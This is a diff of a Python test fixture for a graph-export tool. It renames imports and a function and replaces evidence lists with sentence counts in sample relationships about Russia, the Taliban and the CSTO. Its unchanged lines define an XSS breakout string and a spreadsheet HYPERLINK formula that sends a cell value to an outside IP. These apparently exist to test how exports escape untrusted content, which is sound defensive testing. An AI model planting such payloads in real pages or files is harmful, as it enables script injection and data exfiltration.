@@ -3,8 +3,8 @@
 from typing import Any
 
 from cypher.evidence import Evidence, Parties
-from cypher.values import Graph, Node, Relationship
-from explorer.export.contents import About, Dossier
+from explorer.export.contents import About, LoadedContents
+from graph.stored import Graph, Node, Relationship
 
 HOSTILE = "</script><img src=x onerror=\"document.title='owned'\"> & 'kutip' \"ganda\" \\n ${x} \u2028 ]]> `tik`"
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"klik")'
@@ -62,7 +62,7 @@ TWO = Evidence("article:2#0", HOSTILE, "article:2", FORMULA, "2015-01-02", None,
 
 
 def _told(type_: str, source: str, target: str, **properties: Any) -> Relationship:
-    return Relationship(type_, source, target, {**properties, "evidence": ["article:2#0"]})
+    return Relationship(type_, source, target, {**properties, "sentences": 1})
 
 
 GRAPH = Graph(
@@ -73,20 +73,16 @@ GRAPH = Graph(
         Relationship("TAKES_PLACE_IN", "event:aa11", "place:kabul"),
         Relationship("ACTS_IN", "organization:taliban", "event:bb22"),
         Relationship("IS_RECIPIENT_OF", "country:RU", "event:bb22"),
-        Relationship(
-            "MEMBER_OF", "country:RU", "organization:csto", {"status": "member", "evidence": ["article:2#0"], "confidence": 0.9}
-        ),
-        Relationship("LEADS", "country:RU", "organization:csto", {"evidence": ["article:2#0"], "confidence": 0.5}),
+        Relationship("MEMBER_OF", "country:RU", "organization:csto", {"status": "member", "sentences": 1, "confidence": 0.9}),
+        Relationship("LEADS", "country:RU", "organization:csto", {"sentences": 1, "confidence": 0.5}),
         Relationship(
             "HOLDS_POSITION",
             "actor:vladimir-putin",
             "country:RU",
-            {"title": "Presiden", "evidence": ["article:1#3"], "confidence": 1},
+            {"title": "Presiden", "sentences": 1, "confidence": 1},
         ),
-        Relationship("PART_OF", "country:RU", "country:SUHH", {"evidence": ["article:2#0"], "confidence": 0.4}),
-        Relationship(
-            "BORDERS", "country:RU", "country:SUHH", {"length_km": 1200.5, "evidence": ["article:2#0", "article:1#3"]}
-        ),
+        Relationship("PART_OF", "country:RU", "country:SUHH", {"sentences": 1, "confidence": 0.4}),
+        Relationship("BORDERS", "country:RU", "country:SUHH", {"length_km": 1200.5, "sentences": 2}),
     ),
 )
 _EVIDENCE = {
@@ -103,6 +99,6 @@ POSITIONS = {each.id: (120.0 * number, 80.0 * (number % 3)) for number, each in 
 ABOUT = About(HOSTILE, "russia_taliban_contacts", {"first": "country:RU", "limit": 5}, made_at="2026-01-02T03:04:05+00:00")
 
 
-def dossier() -> Dossier:
+def sample() -> LoadedContents:
     """The sample as an export takes it."""
-    return Dossier(GRAPH, ABOUT, _EVIDENCE, _PARTIES, POSITIONS)
+    return LoadedContents(GRAPH, ABOUT, _EVIDENCE, _PARTIES, POSITIONS)
